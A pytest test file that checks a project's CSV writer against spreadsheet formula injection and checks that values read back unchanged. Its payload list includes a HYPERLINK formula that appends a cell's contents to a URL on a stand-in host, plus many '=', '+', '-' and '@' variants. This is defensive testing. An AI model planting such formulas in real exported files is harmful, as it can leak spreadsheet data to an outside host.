"""A spreadsheet computes no cell of a CSV that is written here, and its readers get what was written."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from generation import csv_text, read_csv
from index_store.manifest.manifest import read_manifest
from index_store.manifest.report_table import read_report_table

ROOT = Path(__file__).parents[2]
FORMULAS = [
    *('=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \u00a0=1"),
    *("-", "=", "- Negative for malignancy", "\ttext", "'=1", "''=1", "' =1", "＝1+1", "＋1", "－1+1", "＠x", '="1"'),
    *("+49 30 1234", "-1-1", "=5"),
]
TEXTS = ["", "text", "'quoted'", "'", "a=1", "5", "12.5", "x-1", "'00123", "#1", "Ünal\nzwei Zeilen", '"', ","]
NUMBERS = ["-5", "+5", "-0.5", "-,5", "-1e-05", "+1.5E10", "-12%"]


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_is_a_formula(value: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_text(["a"], [{"a": value}]), newline=""))
    assert row["a"] == f"'{value}"
    assert list(read_csv(io.StringIO(csv_text(["a"], [{"a": value}]), newline=""))) == [{"a": value}]


@pytest.mark.parametrize("value", [*TEXTS, *NUMBERS, -5, 0.5, None, True])
def test_other_cells_stay_as_they_are(value: object) -> None:
    written = csv_text(["a", "b"], [{"a": value, "b": 1}])
    (row,) = csv.DictReader(io.StringIO(written, newline=""))
    assert row["a"] == ("" if value is None else str(value))
    assert [row["a"] for row in read_csv(io.StringIO(written, newline=""))] == [row["a"]]


def test_a_heading_is_no_formula_either() -> None:
    assert csv_text(["=1+1"], [], line_end="\n") == "'=1+1\n"
    assert list(read_csv(io.StringIO(csv_text(["=1+1"], [{"=1+1": "x"}])))) == [{"=1+1": "x"}]


@pytest.mark.parametrize("value", [*FORMULAS, *TEXTS[1:], *NUMBERS])
def test_a_manifest_is_read_as_it_was_written(tmp_path: Path, value: str) -> None:
    report = f"{value} and more"
    path = tmp_path / "manifest.csv"
    path.write_bytes(csv_text(["report", "=note"], [{"report": report, "=note": value}]).encode())
    (row,) = read_report_table(path).rows
    assert row.report == report.strip()
    assert row.cells.get("=note", "") == value.strip()


@pytest.mark.parametrize("value", ["=case", "-7a", "@x", "+a", '="7"', "'=x"])
def test_a_key_of_a_manifest_is_read_as_it_was_written(tmp_path: Path, value: str) -> None:
    path = tmp_path / "manifest.csv"
    cells = {"image": "a.png", "case": value, "patient": value, "report": value}
    path.write_bytes(csv_text(list(cells), [cells]).encode())
    (tmp_path / "a.png").touch()
    (row,) = read_manifest(path).rows
    assert (row.case, row.patient, row.report) == (value, value, value)


def test_nothing_else_writes_csv() -> None:
    found = [
        path.relative_to(ROOT).as_posix()
        for package in ("generation", "index_store", "retrieval", "ui")
        for path in sorted((ROOT / package).rglob("*.py"))
        if "csv" in (source := path.read_text(encoding="utf-8"))
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv")
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    ]
    assert found == ["generation/csv_text.py"]
